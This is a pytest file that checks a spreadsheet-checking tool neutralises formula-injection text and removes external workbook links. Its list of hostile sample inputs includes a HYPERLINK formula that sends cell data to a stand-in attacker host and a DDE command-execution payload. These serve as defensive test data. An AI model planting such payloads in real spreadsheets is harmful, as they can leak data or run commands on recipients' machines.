"""What swtool writes never turns a provider's text into a formula, and never carries a link out.

A return whose cells hold formula-like text (``=1+1``, ``+A1``, ``-2+3``, ``@SUM(A1)``, tab-, CR- and
LF-prefixed formulas, ``=HYPERLINK``) and which links to another workbook goes through ``swtool check``
with every output: the JSON report, the annotated copy, the receipt, the JUnit and text reports. Each
is read back: openpyxl finds no formula cell in the copy (and no ``<f>`` in its XML), the text swtool
wrote there that starts like a formula is quote-prefixed, the copy has no external-link part or
relationship, and the reports hold the text as data. swtool writes no CSV: the test says so by listing
what a run leaves behind.
"""

from __future__ import annotations

import hashlib
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from builders import claim, write_return
from corpus import external_link
from swtool.cli import cli
from swtool.model import standard as std
from swtool.write.annotate import FORMULA_START

TODAY = "2026-10-01"
FORMULA_LIKE = [
    "=1+1",
    "+A1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=2+2",
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
]
EXTRA_HEADER = "=SUM(A1:A9)"


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """Formula-like text as Output (each an S004), Employer, Notes and Evidence reference, a narrative
    answer and an extra column's header (S008); the workbook also links to a file on a share."""
    folder = tmp_path_factory.mktemp("safety")
    claims = [
        claim(
            **{"Claim ref": f"CL-{i:04d}", "Output": text, "Employer": text, "Notes": text, "Evidence reference": text}
        )
        for i, text in enumerate(FORMULA_LIKE, start=1)
    ]
    base = write_return(
        folder,
        "plain.xlsx",
        claims=claims,
        narrative_values={"Lessons learnt": "=1+1", "Safeguarding": "@SUM(A1)"},
        headers={"Claims": [*std.CLAIMS.headers, EXTRA_HEADER]},
    )
    wb = openpyxl.load_workbook(base)
    ws = wb["Claims"]
    for r in range(2, ws.max_row + 1):  # the extra column has formula-like data too
        ws.cell(r, len(std.CLAIMS.headers) + 1, "-2+3")
    for sheet in wb.worksheets:  # every string typed in is text (openpyxl would make "=1+1" a formula)
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    c.data_type = "s"
    wb.save(base)
    path = external_link(folder, base)
    with zipfile.ZipFile(path) as z:
        assert any(n.startswith("xl/externalLinks/") for n in z.namelist())
    return path


@pytest.fixture(scope="module")
def outputs(hostile, tmp_path_factory) -> dict:
    out = tmp_path_factory.mktemp("out")
    before = sha(hostile)
    listing_before = {p.name for p in hostile.parent.iterdir()}
    runner = CliRunner()
    res = {}
    for fmt, name in (("json", "report.json"), ("junit", "report.xml"), ("text", "report.txt")):
        extra = ["--annotate", str(out / "copy.annotated.xlsx"), "--receipt"] if fmt == "json" else []
        r = runner.invoke(
            cli, ["check", str(hostile), "--format", fmt, "-o", str(out / name), "--today", TODAY, *extra]
        )
        assert r.exit_code == 1, r.output  # the return has errors; the run itself succeeded
        assert "Traceback" not in r.output
        res[fmt] = out / name
    assert sha(hostile) == before
    res["copy"] = out / "copy.annotated.xlsx"
    res["receipt"] = hostile.with_name(hostile.name + ".receipt.json")
    if not res["receipt"].exists():
        res["receipt"] = next(hostile.parent.glob("*.receipt.json"))
    res["new_beside_input"] = {p.name for p in hostile.parent.iterdir()} - listing_before
    res["out_folder"] = {p.name for p in out.iterdir()}
    return res


def test_the_annotated_copy_has_no_formula_where_text_went_in(outputs):
    wb = openpyxl.load_workbook(outputs["copy"])
    texts = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("\t\r\n")[:1] in ("=", "+", "-", "@"):
                    texts += 1
    assert texts >= 4 * len(FORMULA_LIKE)  # the provider's formula-like cells are all there, as text
    claims = wb["Claims"]
    outputs_col = std.CLAIMS.headers.index("Output") + 1
    got = [claims.cell(r, outputs_col).value for r in range(2, 2 + len(FORMULA_LIKE))]
    assert [g.replace("\r", "\n") for g in got] == [t.replace("\r", "\n") for t in FORMULA_LIKE]
    with zipfile.ZipFile(outputs["copy"]) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), name


def test_text_swtool_writes_that_starts_like_a_formula_is_quote_prefixed(outputs):
    ws = openpyxl.load_workbook(outputs["copy"])["Findings"]
    written = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("=HYPERLINK" in c.value for c in written)  # the S004 messages quote the provider's text
    for c in written:
        assert c.data_type == "s"
        if c.value.startswith(FORMULA_START):
            assert c.quotePrefix, c.value
    comments = [
        c.comment.text
        for row in openpyxl.load_workbook(outputs["copy"])["Claims"].iter_rows()
        for c in row
        if c.comment is not None
    ]
    assert any("'=1+1'" in t for t in comments)


def test_the_annotated_copy_links_to_nothing_outside(outputs):
    with zipfile.ZipFile(outputs["copy"]) as z:
        names = z.namelist()
        assert not any(n.lower().startswith("xl/externallinks/") for n in names), names
        assert b"externalReference" not in z.read("xl/workbook.xml")
        for n in names:
            if n.endswith(".rels"):
                assert b'TargetMode="External"' not in z.read(n), n
    wb = openpyxl.load_workbook(outputs["copy"])
    assert not wb._external_links
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.hyperlink is not None:
                    assert c.hyperlink.location and not c.hyperlink.target, c.hyperlink  # in-workbook only


def test_the_reports_hold_the_text_as_data(outputs):
    report = json.loads(outputs["json"].read_text())["files"][0]
    bad_outputs = [f["value"] for f in report["findings"] if f["code"] == "S004" and f["header"] == "Output"]
    assert sorted(bad_outputs) == sorted(t.strip() for t in FORMULA_LIKE)
    assert all(isinstance(v, str) for v in bad_outputs)
    extra = [f for f in report["findings"] if f["code"] == "S008"]
    assert [f["header"] for f in extra] == [EXTRA_HEADER] and extra[0]["value"] == EXTRA_HEADER
    receipt = json.loads(outputs["receipt"].read_text())
    assert receipt["sha256"] == report["sha256"]
    junit = ET.parse(outputs["junit"]).getroot()  # well-formed XML whatever the cells held
    messages = " ".join(e.get("message", "") + (e.text or "") for e in junit.iter() if e.tag in ("failure", "error"))
    assert "=HYPERLINK(" in messages
    text = outputs["text"].read_text()
    assert "'=1+1'" in text and "\r" not in text


def test_no_csv_is_written(outputs):
    written = outputs["new_beside_input"] | outputs["out_folder"]
    assert not [n for n in written if n.lower().endswith(".csv")], written
    assert outputs["out_folder"] == {"report.json", "report.xml", "report.txt", "copy.annotated.xlsx"}
